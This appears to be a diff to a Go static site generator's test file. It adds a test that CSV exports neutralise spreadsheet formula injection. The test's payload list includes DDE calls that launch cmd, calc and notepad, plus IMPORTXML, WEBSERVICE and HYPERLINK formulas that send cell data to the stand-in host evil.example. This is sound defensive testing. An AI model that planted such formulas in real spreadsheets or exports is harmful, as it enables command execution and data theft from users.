@@ -2,6 +2,8 @@ package generator_test
 
 import (
 	"bytes"
+	"encoding/csv"
+	"encoding/json"
 	"errors"
 	"maps"
 	"os"
@@ -15,6 +17,7 @@ import (
 	"golang.org/x/net/html"
 
 	"github.com/trellis-ssg/trellis/generator"
+	"github.com/trellis-ssg/trellis/generator/render"
 )
 
 // TestHostileContentNeverExecutes builds testdata/hostile, whose every
@@ -94,6 +97,9 @@ func checkInert(t *testing.T, name string, page []byte) {
 				}
 				if n.Data == "meta" && attrOf(n, "http-equiv") == "refresh" && !strings.Contains(attrOf(n, "content"), "javascript") {
 					break
+				}
+				if n.Data == "meta" && attrOf(n, "http-equiv") == "Content-Security-Policy" && attrOf(n, "content") == render.MetaContentSecurityPolicy {
+					break // the theme's own policy
 				}
 				if n.Data == "form" && attrOf(n, "id") == "search" && attrOf(n, "action") == "/search/" {
 					break // the theme's own search form
@@ -310,4 +316,104 @@ func refused(t *testing.T, name, yaml string, files map[string]string, line int)
 	if _, err := os.Stat(dest); !os.IsNotExist(err) {
 		t.Errorf("%s: the refused build wrote %s", name, dest)
 	}
+}
+
+// formulaPayloads are the spreadsheet formula payloads of the hostile
+// corpus (OWASP's "CSV Injection"): every text field of a page of every
+// kind in testdata/hostile carries one.
+var formulaPayloads = []string{
+	`=HYPERLINK("http://evil.example","Click")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
+	`=1+1;=2+2`, "\t=1+1 tab", "\r=1+1 carriage return", `=cmd|' /C notepad'!'A1'`, `@formula-system`, `-1+1`,
+	`=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")`, `+IMPORTXML(A1)`, `=DDE("cmd";"/C calc";"!A0")`,
+	`@SUM(A1:A9)`, `-1+2`, `+2-1`, `'=already quoted`, `=WEBSERVICE("http://evil.example/"&A1)`, `+stage()`, `=place()`,
+	`@place`, `-question()`, `=tag()`, `=risk()`, `=pool()`, `@learning()`, `-learning()`, `=evidence()`, `=decision()`,
+	`+decision()`, `@context()`, `-rationale()`, `=story()`, `+story()`, `@teller()`, `-role()`, `=quote()`, `+place()`,
+	`=theme()`, `@note()`, `-moderation()`, `=transcript()`, `+caption()`, `+source()`, `=source()`, `=video()`,
+	`@transcript()`, `=page()`, `@page()`, `+page()`,
+}
+
+// TestHostileCSVIsSpreadsheetSafe parses every CSV file of the hostile
+// build with encoding/csv: no cell may begin as a formula (=, +, -, @, tab,
+// CR) unless it is a plain number, and every payload must come back exactly
+// by the rule the CSV metadata documents; portfolio.json keeps it as it is.
+func TestHostileCSVIsSpreadsheetSafe(t *testing.T) {
+	src := "testdata/hostile"
+	var corpus []byte
+	filepath.WalkDir(src, func(p string, d os.DirEntry, err error) error {
+		if err == nil && !d.IsDir() {
+			b, _ := os.ReadFile(p)
+			corpus = append(corpus, b...)
+		}
+		return nil
+	})
+	for _, p := range formulaPayloads {
+		quoted := strings.NewReplacer(`"`, `\"`, "\t", `\t`, "\r", `\r`).Replace(p)
+		if !bytes.Contains(corpus, []byte(p)) && !bytes.Contains(corpus, []byte(quoted)) {
+			t.Errorf("payload %q is not in the hostile corpus", p)
+		}
+	}
+	dest := filepath.Join(t.TempDir(), "public")
+	res, err := generator.Build(generator.Options{Source: src, Destination: dest, Now: now})
+	if err != nil {
+		t.Fatalf("build: %v\n%v", err, res.Diags)
+	}
+	formula := regexp.MustCompile(`^[=+\-@\t\r]`)
+	number := regexp.MustCompile(`^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$`)
+	undo := regexp.MustCompile(`^'+[=+\-@\t\r]`)
+	found := map[string]bool{}
+	files, _ := filepath.Glob(filepath.Join(dest, "data", "*.csv"))
+	cells := 0
+	for _, f := range files {
+		b, _ := os.ReadFile(f)
+		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", f, err)
+		}
+		for _, r := range rows {
+			for _, c := range r {
+				cells++
+				if formula.MatchString(c) && !number.MatchString(c) {
+					t.Errorf("%s: the cell %q would run as a formula", filepath.Base(f), c)
+				}
+				if undo.MatchString(c) {
+					c = c[1:]
+				}
+				found[c] = true
+				for _, item := range strings.Split(c, ";") {
+					found[item] = true
+				}
+			}
+		}
+	}
+	var doc any
+	b, _ := os.ReadFile(filepath.Join(dest, "data", "portfolio.json"))
+	if err := json.Unmarshal(b, &doc); err != nil {
+		t.Fatal(err)
+	}
+	exact := map[string]bool{}
+	var walk func(any)
+	walk = func(v any) {
+		switch v := v.(type) {
+		case string:
+			exact[v] = true
+		case []any:
+			for _, x := range v {
+				walk(x)
+			}
+		case map[string]any:
+			for _, x := range v {
+				walk(x)
+			}
+		}
+	}
+	walk(doc)
+	for _, p := range formulaPayloads {
+		if !found[p] && !found[strings.Split(p, ";")[0]] {
+			t.Errorf("payload %q does not come back from any CSV cell", p)
+		}
+		if !exact[p] {
+			t.Errorf("payload %q is not in portfolio.json as it was written", p)
+		}
+	}
+	t.Logf("%d CSV files, %d cells, %d payloads", len(files), cells, len(formulaPayloads))
 }
